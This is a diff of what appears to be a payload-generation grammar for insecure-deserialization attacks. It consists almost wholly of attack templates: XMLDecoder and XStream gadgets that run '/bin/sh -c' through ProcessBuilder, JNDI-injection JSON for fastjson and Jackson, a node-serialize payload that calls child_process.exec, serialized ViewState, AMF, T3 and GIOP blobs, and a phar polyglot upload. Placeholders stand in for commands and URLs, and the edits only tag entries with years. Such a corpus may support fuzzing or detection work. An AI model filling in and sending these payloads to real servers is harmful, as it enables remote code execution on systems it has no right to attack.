@@ -50,7 +50,7 @@ gadget := *3 org.apache.commons.collections.functors.«=InvokerTransformer~Chain
   ¦ com.vaadin.data.util.NestedMethodProperty ¦ org.python.core.PyObject ¦ net.sf.json.JSONObject
   ¦ org.jboss.weld.interceptor.proxy.InterceptorMethodHandler ¦ weblogic.jms.common.StreamMessageImpl
   ¦ sun.rmi.server.UnicastRef ¦ java.rmi.server.UnicastRemoteObject ¦ java.lang.ProcessBuilder
-  ¦ com.fasterxml.jackson.databind.node.POJONode ¦ com.alibaba.fastjson.JSONArray
+  ¦ @2023 com.fasterxml.jackson.databind.node.POJONode ¦ com.alibaba.fastjson.JSONArray
   ¦ org.apache.wicket.util.upload.DiskFileItem ¦ java.net.URL ¦ org.«coined».«coined».«coined|cap»
 proxied := java.rmi.registry.Registry ¦ java.util.Map ¦ java.util.Comparator ¦ javax.xml.transform.Templates
   ¦ java.lang.Comparable
@@ -115,7 +115,6 @@ viewstate := __VIEWSTATE=«dotnet_raw|b64|url»&__VIEWSTATEGENERATOR=«hex8|uppe
   ¦ __VSTATE=H4sIAAAAAAAEA«b64s|url»&__VIEWSTATE= ¦ javax.faces.ViewState=«java_stream|b64|url»&«word»=«rand»
   ¦ javax.faces.ViewState=rO0AB«b64s|url»
   ¦ __SCROLLPOSITIONX=0&__VIEWSTATE=%2FwEPDw«b64s|url»&«name»=«dotnet_raw|b64|url»
-  ¦ «name»_FORM«small»=«dotnet_raw|b64|url»&hid«coined|cap»=«rand» ¦ ldx=«java_stream|b64|url»
   ¦ «=data~token~state~payload~object»=«java_stream|b64|url» ¦ «=state~session~data»=«pickle_b|b64|url»
   ¦ «=data~args~options~import»=«php_obj|url» ¦ jato.pageSession=«java_stream|b64|url»
   ¦ «word»=1&«word»=«php_obj|b64|url»
@@ -195,7 +194,7 @@ java_xml := *2 <java version="1.«=7.0_21~8.0_131~6.0~4.0»" class="java.beans.X
   ¦ <java><object class="java.io.PrintWriter"><string>«web_root»/«rand».jsp</string><void method="println"><string><![CDATA[«rand»]]></string></void><void method="close"/></object></java>
   ¦ *2 <sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>«unix_bin»</string><string>«unix_file»</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
   ¦ *2 <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><next class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string>«unix_cmd|html»</string></command></next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>
-  ¦ <java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>«rand»</type><value class='javax.naming.ldap.LdapName'>«jndi_url»</value></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>
+  ¦ @2021 <java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>«rand»</type><value class='javax.naming.ldap.LdapName'>«jndi_url»</value></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>
   ¦ <tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="sun.tracing.NullProvider"><active>true</active></handler></dynamic-proxy><string>«any_cmd|html»</string></entry></tree-map>
   ¦ <linked-hash-set><jdk.nashorn.internal.runtime.«coined|cap»/><com.sun.rowset.JdbcRowSetImpl><dataSource>«jndi_url»</dataSource></com.sun.rowset.JdbcRowSetImpl></linked-hash-set>
   ¦ <org.apache.commons.configuration.ConfigurationMap><configuration class="org.apache.commons.configuration.JNDIConfiguration"><prefix>«jndi_url»</prefix></configuration></org.apache.commons.configuration.ConfigurationMap>
@@ -204,7 +203,7 @@ java_xml := *2 <java version="1.«=7.0_21~8.0_131~6.0~4.0»" class="java.beans.X
   ¦ <javax.swing.ImageIcon serialization="custom"><«coined»/></javax.swing.ImageIcon>
   ¦ <java><void class="com.sun.rowset.JdbcRowSetImpl"><void property="dataSourceName"><string>«jndi_url»</string></void><void property="autoCommit"><boolean>true</boolean></void></void></java>
   ¦ <bean:«$b:coined»><void class="oracle.toplink.internal.sessions.UnitOfWorkChangeSet"><array class="byte" length="«int»"><void index="0"><byte>-84</byte></void><void index="1"><byte>-19</byte></void></array></void></bean:«$b»>
-  ¦ <wddxPacket version='1.0'><header/><data><struct type='x«gadget»x'><var name='«=dataSourceName~metaData»'><string>«jndi_url»</string></var></struct></data></wddxPacket>
+  ¦ @2023 <wddxPacket version='1.0'><header/><data><struct type='x«gadget»x'><var name='«=dataSourceName~metaData»'><string>«jndi_url»</string></var></struct></data></wddxPacket>
 json_gadget := *3 com.sun.rowset.JdbcRowSetImpl ¦ com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
   ¦ org.apache.tomcat.dbcp.dbcp2.BasicDataSource ¦ org.apache.xbean.propertyeditor.JndiConverter
   ¦ com.mchange.v2.c3p0.JndiRefForwardingDataSource ¦ org.apache.shiro.jndi.JndiObjectFactory
@@ -237,8 +236,7 @@ json_type := *4 {"@type":"«json_gadget»","dataSourceName":"«jndi_url»","auto
   ¦ {"type":"«json_gadget»","properties":{"UserTransaction":"«jndi_url»"}}
   ¦ [{"@type":"«json_gadget»"},{"@type":"java.io.«=FileOutputStream~Reader~InputStream»","file":"/tmp/«rand»"}]
   ¦ {"_$$ND_FUNC$$_«word»":"«rand»"}
-  ¦ {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«unix_cmd|js»')}()"}
-  ¦ {"arguments":[{"type":"Buffer","data":[172,237,0,5,115,114]}],"«word»":"«rand»"} ¦ {"xmldata":"«java_xml|js»"}
+  ¦ {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«unix_cmd|js»')}()"} ¦ {"xmldata":"«java_xml|js»"}
 ruby_class := Gem::Installer ¦ Gem::Requirement ¦ Gem::StubSpecification ¦ ERB
   ¦ ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy ¦ OpenStruct ¦ Gem::SpecFetcher ¦ Gem::Source
   ¦ JSON::GenericObject ¦ Gem::Version ¦ Rack::Session::Abstract::SessionHash ¦ Sprockets::ERBProcessor
@@ -259,7 +257,7 @@ amf := «nul»«x03»«nul»«nul»«nul»«x01»«nul»«x04»null«nul»«x02�
   ¦ H«x02»«nul»M«xb2»java.util.HashMapC0)«gadget»«x91»«x91»S«nul»«x08»«jndi_url»
   ¦ «x4f»«xab»«gadget»«x92»«x0b»methodName ¦ «nul»«nul»«nul»«nul»TP«hex8»«java_stream»
   ¦ t3 12.2.1«nl»AS:255«nl»HL:19«nl»MS:10000000«nl»«nl»«java_stream»
-  ¦ GIOP«x01»«x02»«nul»«x03»«nul»«nul»«nul»«x17»RMI:«gadget»:«hex16» ¦ «x01»«nul»«x1c»«gadget»«x81»«x02»«jndi_url»
+  ¦ GIOP«x01»«x02»«nul»«x03»«nul»«nul»«nul»«x17»RMI:«gadget»:«hex16»
 java_cmd_s := «any_cmd» ¦ «jndi_url»
 phar_file := Content-Disposition: form-data; name="«word»"; filename="«rand».«=jpg~phar~gif»"«cr»«nl»Content-Type: image/«=jpeg~gif»«cr»«nl»«cr»«nl»GIF89a<?php __HALT_COMPILER(); ?>«cr»«nl»«x80»«nul»«nul»«nul»«x01»«nul»«nul»«nul»«x11»«nul»«php_obj»«x08»test.txtGBMB
   ¦ Content-Disposition: form-data; name="«=file~import~session~backup~data»"; filename="«word».«=ser~bin~dat~pkl~session~rsess»"«cr»«nl»Content-Type: application/octet-stream«cr»«nl»«cr»«nl»«java_stream»
